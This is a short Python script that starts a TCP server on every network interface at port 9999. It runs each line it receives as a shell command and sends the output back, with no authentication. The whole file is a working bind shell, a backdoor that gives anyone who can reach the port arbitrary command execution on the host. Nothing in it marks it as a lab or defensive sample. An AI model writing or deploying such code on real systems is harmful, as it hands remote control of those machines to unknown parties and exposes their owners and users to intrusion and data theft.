import os
import socketserver

class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        cmd = self.rfile.readline().strip().decode()
        self.wfile.write(os.popen(cmd).read().encode())

if __name__ == "__main__":
    with socketserver.TCPServer(("0.0.0.0", 9999), Handler) as srv:
        srv.serve_forever()
